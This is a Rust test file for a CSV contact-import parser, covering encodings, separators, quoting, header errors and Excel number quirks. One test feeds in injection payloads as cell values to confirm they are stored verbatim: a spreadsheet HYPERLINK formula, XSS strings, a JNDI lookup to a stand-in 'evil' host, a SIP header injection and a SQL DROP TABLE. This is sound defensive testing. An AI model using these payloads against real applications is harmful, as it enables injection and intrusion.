//! Every input that the papers name for contact files (design/reliability.md 3d), a
//! test for each row of the table and a name for each case in it: what becomes of it.
//!
//! Files over the limits, broken uploads and exports are tested through the API
//! (`tests/api/contact_files.rs`), numbers in `domain::phone`.

use std::fmt::Write;

use encoding_rs::{Encoding, WINDOWS_1252};

use super::{ImportError, ImportLimits, ImportOptions, Separator, parser::Parser, preview};

/// What becomes of a file read whole: a line for each row, and how it was read.
fn read_as(file: &[u8], options: &ImportOptions) -> String {
    let mut shown = String::new();
    let mut rows = Vec::new();
    let ended = Parser::new("DE".into(), options).read_beginning(file, true, &mut |chunk| {
        for row in chunk.rows {
            rows.push((row.line, format!("{} {} {}", row.line, row.phone, row.variables)));
        }
        for row in chunk.refused {
            let code = row.fault.code();
            rows.push((row.line, format!("{} {code} {:?} {}", row.line, row.text, row.variables)));
        }
    });
    rows.sort();
    for (_, row) in rows {
        let _ = writeln!(shown, "{row}");
    }
    let _ = match ended {
        Ok(facts) => writeln!(shown, "({}, {})", facts.encoding, facts.separator.word()),
        Err(error) => writeln!(shown, "{}: {error}", error.code()),
    };
    shown
}

fn read(file: impl AsRef<[u8]>) -> String {
    read_as(file.as_ref(), &ImportOptions::default())
}

fn error_of(file: impl AsRef<[u8]>) -> ImportError {
    let parser = Parser::new("DE".into(), &ImportOptions::default());
    parser.read_beginning(file.as_ref(), true, &mut drop).expect_err("the file is at fault")
}

fn options(encoding: &str, separator: &str) -> ImportOptions {
    ImportOptions::default().overridden(Some(encoding), Some(separator)).unwrap()
}

fn utf16(text: &str, to_bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(to_bytes).collect()
}

#[test]
fn encodings_are_detected_and_named() {
    let text = "phone_number,name\r\n+4930901820,Jörg Müßig – „Größe“\r\n";
    let marked = format!("\u{feff}{text}");
    let western = WINDOWS_1252.encode(text).0.into_owned();
    let cases = [
        ("UTF-8", text.as_bytes().to_vec(), "UTF-8"),
        ("UTF-8 with BOM", marked.as_bytes().to_vec(), "UTF-8"),
        ("UTF-16LE with BOM", utf16(&marked, u16::to_le_bytes), "UTF-16LE"),
        ("UTF-16BE with BOM", utf16(&marked, u16::to_be_bytes), "UTF-16BE"),
        ("UTF-16LE without BOM", utf16(text, u16::to_le_bytes), "UTF-16LE"),
        ("UTF-16BE without BOM", utf16(text, u16::to_be_bytes), "UTF-16BE"),
        ("Windows-1252", western, "windows-1252"),
    ];
    for (case, file, encoding) in cases {
        let expected =
            format!("2 +4930901820 {{\"name\":\"Jörg Müßig – „Größe“\"}}\n({encoding}, comma)\n");
        assert_eq!(read(file), expected, "{case}");
    }
    // Latin-1 is a part of Windows-1252.
    assert!(read(b"phone_number,name\n+4930901820,Jos\xE9\n").contains("\"José\""));
}

#[test]
fn a_wrong_guess_of_the_encoding_can_be_overridden() {
    let (greek, encoding, _) =
        encoding_rs::ISO_8859_7.encode("phone_number,n\n+4930901820,Δέλτα\n");
    let read_by = |label: &str| read_as(&greek, &options(label, ""));
    assert!(read_by("iso-8859-7").contains("Δέλτα"), "{}", encoding.name());
    assert!(read_by("latin1").contains("ÄÝëôá"), "as it was told");
    assert_eq!(Encoding::for_label(b"latin1"), Some(WINDOWS_1252));
    let refused = ImportOptions::default().overridden(Some("klingon"), None).unwrap_err();
    assert_eq!(refused.code(), "unknown_encoding");
}

#[test]
fn no_replacement_character_is_ever_stored_silently() {
    let mut mixed = "phone_number,name\n".as_bytes().to_vec();
    mixed.extend_from_slice("+4930901820,Größenwahn in München überall\n".repeat(3).as_bytes());
    mixed.extend_from_slice(b"+4930901821,M\xFCnchen\n+4930901822,good\n");
    let cases: [(&str, Vec<u8>); 4] = [
        ("UTF-8 with a Latin-1 row", mixed),
        ("one that was in the file", "phone_number,name\n+4930901820,M\u{fffd}nchen\n".into()),
        ("one in the number", "phone_number\n+49309\u{fffd}01820\n".into()),
        (
            "half a UTF-16 pair",
            utf16("\u{feff}phone_number,a\n+4930901820,x", u16::to_le_bytes)
                .into_iter()
                .chain([0x00, 0xD8])
                .collect(),
        ),
    ];
    for (case, file) in cases {
        let shown = read(file);
        let marked: Vec<_> = shown.lines().filter(|line| line.contains('\u{fffd}')).collect();
        assert_eq!(marked.len(), 1, "{case}: {shown}");
        assert!(marked[0].contains(" bad_encoding "), "{case}: {shown}");
    }
    let error = error_of("phone_number,na\u{fffd}me\n+4930901820,x\n");
    assert!(matches!(error, ImportError::UnreadableHeader { column: 2 }), "{error}");
}

#[test]
fn line_ends_of_every_kind_give_the_same_rows() {
    let lines = ["phone_number,n", "+4930901820,a", "+4930901821,b"];
    let expected = "2 +4930901820 {\"n\":\"a\"}\n3 +4930901821 {\"n\":\"b\"}\n(UTF-8, comma)\n";
    let cases = [
        ("CRLF", lines.join("\r\n") + "\r\n"),
        ("CR only", lines.join("\r") + "\r"),
        ("LF", lines.join("\n") + "\n"),
        ("mixed", format!("{}\r{}\r\n{}\n", lines[0], lines[1], lines[2])),
        ("none at the end", lines.join("\n")),
        ("CR at the end", lines.join("\n") + "\r"),
        ("trailing empty lines", lines.join("\r\n") + "\r\n\r\n\r\n"),
        ("trailing blanks and separators", lines.join("\n") + "\n  \n,\n , \n"),
    ];
    for (case, file) in cases {
        assert_eq!(read(file), expected, "{case}");
    }
}

#[test]
fn quotes_hold_what_they_should_and_no_more() {
    let cases = [
        ("an embedded newline", "\"two\r\nlines\"", "two\\r\\nlines"),
        ("a doubled quote", "\"say \"\"hi\"\"\"", "say \\\"hi\\\""),
        ("a separator", "\"a,b\"", "a,b"),
        ("a quote in the middle", "5\" pipe", "5\\\" pipe"),
    ];
    for (case, cell, value) in cases {
        let shown = read(format!("phone_number,n\n+4930901820,{cell}\n"));
        let expected = format!("2 +4930901820 {{\"n\":\"{value}\"}}\n(UTF-8, comma)\n");
        assert_eq!(shown, expected, "{case}");
    }
}

#[test]
fn a_quote_that_is_never_closed_is_named_by_its_line() {
    let rows = "+4930901820,x\n".repeat(200_000);
    let file = format!("phone_number,n\n+4930901820,x\n+4930901821,\"y\n{rows}");
    let error = error_of(&file);
    assert!(matches!(error, ImportError::UnclosedQuote { line: 3 }), "{error}");
    // Not even when another one far below seems to close it.
    let error = error_of(format!("{}+4930901823,\"z\"\n", &file[..400]));
    assert!(matches!(error, ImportError::UnclosedQuote { line: 3 }), "{error}");
}

#[test]
fn separators_are_detected_and_can_be_overridden() {
    for separator in Separator::ALL {
        let [by] = [separator.byte()].map(char::from);
        let file = format!("phone_number{by}a{by}b\n+4930901820{by}1{by}2\n");
        let expected =
            format!("2 +4930901820 {{\"a\":\"1\",\"b\":\"2\"}}\n(UTF-8, {})\n", separator.word());
        assert_eq!(read(&file), expected);
        for word in [separator.word().to_owned(), by.to_string()] {
            assert_eq!(read_as(file.as_bytes(), &options("", &word)), expected, "{word:?}");
        }
    }
    // More commas than semicolons in the names; only its owner knows.
    let file = "phone_number;last, first, middle\n+4930901820;Doe, J, X\n";
    assert_eq!(error_of(file).code(), "no_phone_column");
    assert_eq!(
        read_as(file.as_bytes(), &options("", "semicolon")),
        "2 +4930901820 {\"last, first, middle\":\"Doe, J, X\"}\n(UTF-8, semicolon)\n"
    );
    let refused = ImportOptions::default().overridden(None, Some("#")).unwrap_err();
    assert_eq!(refused.code(), "unknown_separator");
}

#[test]
fn a_preview_shows_how_a_file_would_be_read() {
    let rows: String = (0..30).map(|n| format!("+49309018{n:02};Müller {n}\r\n")).collect();
    let (file, ..) = WINDOWS_1252.encode(&rows);
    let file = [b"phone_number;name\r\nbanana;x\r\n", &*file].concat();
    let cut = &file[..file.len() - 5];
    for (head, is_whole) in [(&file[..], true), (cut, false)] {
        let seen = preview(head, is_whole, &ImportOptions::default(), "DE").unwrap();
        assert_eq!((seen.encoding, seen.separator.word()), ("windows-1252", "semicolon"));
        assert_eq!(seen.columns, ["phone_number", "name"]);
        assert_eq!(seen.rows.len(), 20);
        assert_eq!(seen.rows[0].number, Err(("banana".into(), "letters")));
        assert_eq!((seen.rows[1].line, &*seen.rows[1].variables), (3, "{\"name\":\"Müller 0\"}"));
    }
    let seen =
        preview(b"phone_number\n+49309018200\n+4930", false, &ImportOptions::default(), "DE");
    assert_eq!(seen.unwrap().rows.len(), 1, "a row that is cut is no row");
    let endless = preview(&[b'x'; 3_000], false, &ImportOptions::default(), "DE");
    assert_eq!(endless.unwrap_err().code(), "long_header");
}

#[test]
fn files_of_other_formats_are_known_by_their_first_bytes() {
    let cases: [(&str, &[u8], &str); 6] = [
        ("xlsx, zip", b"PK\x03\x04\x14\x00\x06\x00\x08\x00", "save the sheet as CSV"),
        ("xls", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00", "save the sheet as CSV"),
        ("gzip", b"\x1F\x8B\x08\x00\x00\x00\x00\x00\x00\x03", "unpack it"),
        ("zstd", b"\x28\xB5\x2F\xFD\x04\x00\x00\x00", "unpack it"),
        ("PDF", b"%PDF-1.7\n%\xE2\xE3", "save the sheet as CSV"),
        ("a zip of four bytes", b"PK\x03\x04", "save the sheet as CSV"),
    ];
    for (case, file, advice) in cases {
        let error = error_of(file);
        assert_eq!((error.code(), error.status().as_u16()), ("other_format", 415), "{case}");
        assert!(error.to_string().contains(advice), "{case}: {error}");
    }
}

#[test]
fn headers_at_fault_name_the_column() {
    let many = |columns: usize| {
        let names: String = (2..=columns).map(|column| format!(",c{column}")).collect();
        format!("phone_number{names}\n+4930901820\n")
    };
    let cases = [
        ("duplicate header", "phone_number,city,zip,city\n1\n".into()),
        ("duplicate phone column", "phone_number,Phone Number\n1\n".into()),
        ("empty header", "phone_number,,city\n1\n".into()),
        ("10,000 columns", many(10_000)),
        ("201 columns", many(201)),
        ("a header of 1 MB in one name", format!("phone_number,{}\n1\n", "x".repeat(1 << 20))),
        ("a long name", format!("phone_number,{}\n1\n", "x".repeat(101))),
        ("a header of 1 MB without an end", "x".repeat((1 << 20) + 1)),
        ("one column, not the right one", "mobile\n+4930901820\n".into()),
        ("header only", "phone_number,city\n".into()),
        ("header only, without an end", "phone_number,city".into()),
        ("no header", "+4930901820,Asha\n+4930901821,Ravi\n".into()),
        ("a NUL in a name", "phone_number,ci\0ty\n1\n".into()),
        ("empty", String::new()),
        ("blank lines", "\n \r\n\t\n".into()),
    ];
    let mut shown = String::new();
    for (case, file) in cases {
        let error = error_of(&file);
        assert_eq!(error.status().as_u16(), 422, "{case}");
        let _ = writeln!(shown, "{case}: {error}");
    }
    insta::assert_snapshot!(shown);
    assert!(read(many(200)).starts_with("2 +4930901820 {}"), "200 are not too many");
    assert!(read("phone_number\n+4930901820\n").starts_with("2 +4930901820 {}"), "nor is one");
}

#[test]
fn a_nul_refuses_its_row_and_other_strange_characters_are_kept() {
    let kept = [
        ("control characters", "a\u{1}\u{7f}\u{85}b"),
        ("bidi override", "abc\u{202e}def"),
        ("bidi isolates", "\u{2067}abc\u{2069}"),
        ("zero width", "a\u{200b}b\u{200d}c\u{feff}d"),
        ("emoji", "👩‍👩‍👧 👍🏽"),
        ("four bytes", "𠮷野家"),
        ("NFC", "Caf\u{e9}"),
        ("NFD", "Cafe\u{301}"),
    ];
    for (case, text) in kept {
        let shown = read(format!("phone_number,n\n+4930901820,{text}\n"));
        let variables = serde_json::json!({ "n": text });
        assert_eq!(shown, format!("2 +4930901820 {variables}\n(UTF-8, comma)\n"), "{case}");
    }
    assert_eq!(
        read("phone_number,n\n+4930901820,a\0b\n+4930901821,c\n"),
        "2 nul_character \"+4930901820\" {\"n\":\"a\\u0000b\"}\n\
         3 +4930901821 {\"n\":\"c\"}\n(UTF-8, comma)\n"
    );
}

#[test]
fn formulas_and_hostile_values_are_stored_as_they_are() {
    let values = [
        "=HYPERLINK(\"http://evil\")",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u{a0}=1",
        "ok\n=1",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "\"><img src=x onerror=alert(1)>",
        "${jndi:ldap://evil/x}",
        "x\r\nVia: SIP/2.0/UDP evil",
        "'; DROP TABLE contact; --",
        "\\u0000\\",
    ];
    for value in values {
        let cell = value.replace('"', "\"\"");
        let shown = read(format!("phone_number,n\n+4930901820,\"{cell}\"\n"));
        let variables = serde_json::json!({ "n": value });
        assert_eq!(shown, format!("2 +4930901820 {variables}\n(UTF-8, comma)\n"), "{value:?}");
    }
}

#[test]
fn what_excel_does_to_numbers_is_undone_or_refused() {
    let cases = [
        ("scientific", "4.91701E+11", "scientific_notation"),
        ("scientific with a comma", "\"4,91701E+11\"", "scientific_notation"),
        ("a zero that was lost", "1711234567", "+491711234567"),
        ("an apostrophe", "'+4930901820", "+4930901820"),
        ("a decimal", "4930901820.0", "+4930901820"),
        ("a formula for a text", "\"=\"\"+4930901820\"\"\"", "not_a_number"),
    ];
    for (case, cell, expected) in cases {
        let shown = read(format!("phone_number\n{cell}\n"));
        assert!(shown.starts_with(&format!("2 {expected}")), "{case}: {shown}");
    }
    let explained = super::explain("scientific_notation").unwrap();
    assert!(explained.contains("format the column as text"), "{explained}");
}

#[test]
fn every_refused_row_has_an_explanation_and_its_other_columns() {
    let shown = read("a,phone_number,b\n1,banana,2\n3,,4\n5,+4930901820,6,7,\"8,9\"\n");
    insta::assert_snapshot!(shown, @r#"
    2 letters "banana" {"a":"1","b":"2"}
    3 empty "" {"a":"3","b":"4"}
    4 too_many_columns "+4930901820" {"a":"5","b":"6","":["7","8,9"]}
    (UTF-8, comma)
    "#);
    for code in ["letters", "empty", "too_many_columns", "bad_encoding", "duplicate"] {
        assert!(super::explain(code).is_some_and(|words| words.len() > 15), "{code}");
    }
    assert_eq!(super::explain("banana"), None);
}

#[test]
fn rows_count_up_to_the_limit_whatever_becomes_of_them() {
    let options = ImportOptions::new(ImportLimits { rows_max: 3, ..ImportLimits::default() });
    let file = "phone_number\n+4930901820\nbanana\n\n+4930901820\n";
    assert_eq!(read_as(file.as_bytes(), &options).lines().count(), 4);
    let shown = read_as(format!("{file}x\n").as_bytes(), &options);
    assert!(shown.contains("too_many_rows"), "{shown}");
}
